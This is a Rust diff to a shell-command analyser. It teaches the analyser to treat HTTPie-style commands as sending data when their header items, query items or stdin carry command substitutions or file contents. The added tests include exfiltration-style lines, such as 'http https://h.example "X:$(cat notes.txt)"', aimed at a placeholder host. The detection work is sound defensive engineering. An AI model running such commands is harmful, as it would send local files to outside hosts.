@@ -7,7 +7,7 @@ use super::words::word_texts;
 use crate::expand::first_text;
 use crate::reading::{ActKind, Reading};
 use crate::script::{EffectKind, Word};
-use crate::unknown::{Source, has_mark, is_mark};
+use crate::unknown::{Source, has_mark, is_mark, known_prefix};
 
 /// Programs that tell what the machine or its user is.
 const TELLING: [&str; 14] = [
@@ -154,6 +154,15 @@ impl Walker<'_> {
             let texts = option.value.as_ref().map(word_texts).unwrap_or_default();
             header.is_some_and(|name| texts.iter().any(|text| self.header_carries(name, text)))
         });
+        // `http URL Name:value query==value`.
+        let items = matches!(doer.program, "http" | "https" | "xh" | "xhs")
+            && reading.operands.iter().any(|item| {
+                let text = first_text(item);
+                known_prefix(text).contains([':', '='])
+                    && !text.contains("://")
+                    && self.header_carries("--header", text)
+            });
+        let sends = sends || items;
         for act in &mut reading.acts {
             if let ActKind::Network { sends: known, .. } = &mut act.kind {
                 *known |= sends;
@@ -308,6 +317,9 @@ mod tests {
             "curl -x \"http://$(whoami).h.example\" https://h.example",
             "wget --header=\"X: $(cat notes.txt)\" https://h.example",
             "wget -U \"$(printenv)\" https://h.example",
+            "http https://h.example \"X:$(cat notes.txt)\"",
+            "http https://h.example q==\"$(cat notes.txt)\"",
+            "http https://h.example < notes.txt",
         ] {
             check(text, true);
         }
@@ -318,6 +330,8 @@ mod tests {
             "curl -H \"X-Request-Id: $(uuidgen)\" https://h.example",
             "curl -u \"me:$(cat pass.txt)\" https://h.example",
             "curl -A \"tool/$(cat VERSION)\" https://h.example",
+            "http https://h.example \"Authorization:Bearer $(cat notes.txt)\"",
+            "while read -r url; do http \"$url\"; done < list.txt",
             "curl -o \"$(cat notes.txt)\" https://h.example",
             "curl -H \"X-Commit: $(git rev-parse HEAD)\" https://h.example",
         ] {
